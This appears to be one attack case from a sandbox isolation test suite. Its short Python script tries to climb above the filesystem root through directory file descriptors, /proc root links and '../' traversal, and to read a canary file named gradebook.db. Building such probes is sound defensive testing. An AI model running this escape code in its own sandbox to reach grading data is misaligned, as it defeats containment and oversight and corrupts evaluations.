# attack: climbs above its root by open folders, dots and links
# family: leaks
# base: blank
# points: 0
# %% last
import os
here = os.open("/", os.O_RDONLY)
for _ in range(30):
    above = os.open("..", os.O_RDONLY, dir_fd=here)
    os.close(here)
    here = above
print(os.listdir(here))
for start in ("/proc/self/root", "/proc/1/root", "/proc/self/fd", "/.oldroot", "/old", "/mnt"):
    try:
        print(os.listdir(start))
        print(open(f"{start}/CANARY/gradebook.db").read())
    except OSError as error:
        print(error)
for start in ("/", ""):
    try:
        print(open(start + "../" * 40 + "CANARY/gradebook.db").read())
    except OSError as error:
        print(error)
